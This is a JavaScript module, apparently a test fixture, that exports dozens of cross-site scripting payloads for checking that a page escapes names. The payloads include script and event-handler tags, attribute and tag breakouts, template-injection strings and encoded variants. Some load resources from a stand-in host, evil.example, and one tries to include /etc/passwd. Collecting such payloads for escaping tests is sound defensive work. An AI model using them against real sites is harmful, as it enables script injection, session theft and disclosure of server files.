// Texts that would run a script, or break out of their place in a page, if they were not escaped. Names have at most 64
// characters, so all of them fit into one.

const CALL = "hit()";

const markup = [
  `<script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${CALL}>`,
  `<img/src/onerror=${CALL}>`,
  `<IMG SRC=x ONERROR="${CALL}">`,
  `<svg onload=${CALL}>`,
  `<svg/onload=${CALL}//`,
  `<svg><script>${CALL}</script></svg>`,
  `<body onload=${CALL}>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>${CALL}</script>">`,
  `<object data="javascript:${CALL}">`,
  `<embed src="javascript:${CALL}">`,
  `<a href="javascript:${CALL}">x</a>`,
  `<form action="//evil.example"><button>x`,
  `<input autofocus onfocus=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<video><source onerror=${CALL}>`,
  `<audio src=x onerror=${CALL}>`,
  `<marquee onstart=${CALL}>`,
  `<math><mtext><img src onerror=${CALL}>`,
  `<base href="//evil.example/">`,
  `<link rel=stylesheet href=//evil.example>`,
  `<meta http-equiv=refresh content=0;//evil.example>`,
  `<style>@import "//evil.example";</style>`,
  `<template><img src onerror=${CALL}></template>`,
];

const escapes = [
  `"><script>${CALL}</script>`,
  `'><script>${CALL}</script>`,
  `" onmouseover="${CALL}" x="`,
  `' onmouseover='${CALL}' x='`,
  `" autofocus onfocus="${CALL}`,
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</select><script>${CALL}</script>`,
  `</option></select><img src onerror=${CALL}>`,
  `</pre></code><img src onerror=${CALL}>`,
  `</th></tr></table><img src onerror=${CALL}>`,
  `--><script>${CALL}</script><!--`,
  `]]><script>${CALL}</script>`,
  `<!--<img src="--><img src onerror=${CALL}>`,
];

const languages = [
  `{{constructor.constructor('${CALL}')()}}`,
  `{% include "/etc/passwd" %}{{ 7*7 }}`,
  "${" + CALL + "}`" + CALL + "`",
  `';${CALL};//`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;img src onerror=${CALL}&#62;`,
  `javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `＜script＞<img src onerror=${CALL}>＜/script＞`,
];

export const PAYLOADS = [...markup, ...escapes, ...languages];
